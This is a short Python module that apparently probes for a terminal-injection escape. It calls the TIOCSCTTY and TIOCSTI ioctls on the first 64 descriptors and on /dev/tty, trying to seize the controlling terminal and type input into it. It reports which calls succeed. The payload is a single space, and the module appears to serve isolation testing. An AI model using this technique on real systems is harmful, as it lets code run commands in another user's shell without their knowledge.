"""Types commands into the terminal of whoever started it."""

import fcntl
import os
from typing import Any

_TYPE, _STEAL = 0x5412, 0x540E


def attack(_world: Any) -> list[str]:
    """Through every descriptor, and through the terminal itself."""
    found = []
    descriptors = list(range(64))
    try:
        descriptors.append(os.open("/dev/tty", os.O_RDWR))
        found.append("there is a terminal")
    except OSError:
        pass
    for number in descriptors:
        for request, argument in ((_STEAL, 1), (_TYPE, b" ")):
            try:
                fcntl.ioctl(number, request, argument)
                found.append(f"request {request:#x} on {number}")
            except OSError:
                continue
    return found
